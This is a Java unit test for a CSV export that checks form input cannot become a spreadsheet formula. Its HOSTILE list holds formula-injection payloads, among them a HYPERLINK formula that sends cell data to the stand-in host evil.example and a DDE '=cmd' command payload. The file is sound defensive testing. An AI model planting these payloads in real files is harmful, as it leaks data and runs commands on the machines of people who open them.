package org.advocacyhub.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import java.io.IOException;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * Exports open safely in a spreadsheet whatever its list separator: a "," locale (the file as we
 * write it) and a ";" locale, which splits lines at ";" and may or may not honour our quotes. The file
 * is parsed each of those ways and no cell may start like a formula.
 */
class CsvTest {

    /** Values people can type into a form that ends up in an export. */
    static final List<String> HOSTILE = List.of(
            "x;=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(A1:A2)",
            "\t=1+1",
            "a,=1+1",
            "a, =1+1",
            "a;  +1",
            "a\n=1+1",
            "a\r\n@x",
            "say \"=1+1\"",
            "a|=1",
            "\uFF1D1+1",
            "Ada; Lovelace",
            "plain",
            "-",
            "");

    @Test
    void noCellStartsAFormulaWhetherTheSpreadsheetSplitsAtCommaOrSemicolon() throws IOException {
        String csv = write();
        for (char separator : new char[] {',', ';'}) {
            for (List<String> row : parseQuoted(csv, separator)) {
                for (String cell : row) {
                    assertNoFormula(cell, csv, "quote-aware " + separator);
                }
            }
            // A spreadsheet that ignores quotes altogether: the worst case.
            for (String line : csv.split("\r\n|\n|\r")) {
                for (String cell : line.split(Character.toString(separator), -1)) {
                    assertNoFormula(cell.strip().replaceFirst("^\"+", ""), csv, "naive " + separator);
                }
            }
        }
    }

    @Test
    void aCommaSpreadsheetGetsBackWhatWasTypedWithOnlyAnApostropheBeforeAFormulaStart() throws IOException {
        List<List<String>> rows = parseQuoted(write(), ',');
        assertEquals(HOSTILE.size(), rows.size());
        for (int i = 0; i < HOSTILE.size(); i++) {
            List<String> row = rows.get(i);
            assertEquals(List.of("1", HOSTILE.get(i).replace("'", ""), "-7"),
                    List.of(row.get(0), row.get(1).replace("'", ""), row.get(2)), "row " + i);
        }
        assertEquals("'=cmd|' /C calc'!A0", rows.get(1).get(1));
        assertEquals("x;'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", rows.get(0).get(1));
    }

    @Test
    void textIsAlwaysQuotedAndNumbersStayNumbers() throws IOException {
        StringWriter w = new StringWriter();
        Csv.row(w, "Ada", "12", "-3", "4.5", "05401", null, "2026-11-25");
        assertEquals("\"Ada\",12,-3,4.5,05401,,\"2026-11-25\"\r\n", w.toString());
    }

    private static String write() throws IOException {
        StringWriter w = new StringWriter();
        for (String value : HOSTILE) {
            Csv.row(w, "1", value, "-7");
        }
        return w.toString();
    }

    private static void assertNoFormula(String cell, String csv, String how) {
        String start = cell.stripLeading();
        assertFalse(!start.isEmpty() && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".indexOf(start.charAt(0)) >= 0
                && !start.matches("-[0-9]+"), how + " parse gives a formula cell [" + cell + "] in\n" + csv);
    }

    /** RFC 4180 reading with the given separator, as a spreadsheet that honours quotes does. */
    static List<List<String>> parseQuoted(String csv, char separator) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == separator) {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' && i + 1 < csv.length() && csv.charAt(i + 1) == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                i++;
            } else {
                cell.append(c);
            }
        }
        return rows;
    }
}
